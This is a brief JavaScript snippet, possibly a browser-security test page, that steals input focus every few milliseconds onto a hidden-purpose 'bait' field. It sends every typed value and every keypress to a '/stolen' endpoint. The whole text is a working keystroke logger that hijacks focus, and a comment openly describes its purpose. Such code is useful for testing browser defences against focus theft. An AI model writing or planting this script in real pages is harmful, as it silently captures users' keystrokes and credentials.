// Keeps taking the focus and hands on whatever is typed into it.
const bait = document.getElementById('bait');
setInterval(() => bait.focus(), 5);
bait.addEventListener('input', () => fetch('/stolen', {method: 'POST', body: new URLSearchParams({value: bait.value})}));
addEventListener('keydown', (event) => fetch('/stolen', {method: 'POST', body: new URLSearchParams({key: event.key})}));
